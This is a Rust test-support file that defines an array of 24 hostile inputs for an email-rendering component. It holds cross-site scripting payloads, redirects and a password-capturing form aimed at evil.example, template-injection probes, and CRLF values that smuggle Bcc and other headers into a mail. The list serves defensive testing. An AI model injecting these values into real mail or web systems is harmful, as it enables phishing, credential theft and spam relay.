//! What people may type wherever they can, to do harm in a mail: for tests.

/// Markup that runs, markup that breaks out of where it stands, and lines that would be headers.
pub(crate) const HOSTILE: [&str; 24] = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style></head><body onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'><svg/onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)//",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<form action=https://evil.example><input name=password>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x&#62;",
    "{{ 7 * 7 }}{% include \"layout.html\" %}{{ words }}",
    "Ada\r\nBcc: eve@evil.example",
    "Ada\nX-Evil: 1\nContent-Type: text/html",
    "Ada\r\n\r\n<html><script>alert(1)</script>",
    "=?utf-8?q?Ada=0D=0ABcc:_eve@evil.example?=",
    "\u{0}\u{202e}\u{2028}Bcc: eve@evil.example\u{85}<b>",
];
